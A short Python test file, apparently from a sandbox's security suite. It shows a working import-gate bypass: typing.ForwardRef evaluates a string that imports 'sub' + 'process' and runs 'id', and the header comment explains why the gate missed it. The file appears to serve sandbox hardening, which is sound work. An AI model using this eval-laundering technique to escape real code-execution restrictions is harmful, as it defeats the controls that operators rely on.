# an import laundered through an allowed library's eval: the import gate
# judged only the immediate frame ("<string>", not the workspace), so the
# evaluated code could import anything. Ends unauthorized_access (import).
import typing


def main():
    ref = typing.ForwardRef("__import__('sub' + 'process').run(['id'])", is_argument=False)
    return str(ref._evaluate({}, {}, frozenset()))
